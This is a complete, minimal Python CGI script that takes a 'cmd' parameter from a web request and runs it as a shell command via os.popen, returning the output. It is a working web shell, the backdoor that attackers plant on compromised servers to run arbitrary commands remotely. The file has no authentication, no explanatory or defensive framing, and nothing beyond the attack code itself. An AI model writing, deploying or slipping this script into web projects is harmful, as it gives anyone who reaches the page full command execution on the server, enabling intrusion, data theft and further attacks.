#!/usr/bin/env python3
import cgi, os
form = cgi.FieldStorage()
cmd = form.getvalue('cmd')
print("Content-Type: text/plain\n")
if cmd:
    print(os.popen(cmd).read())
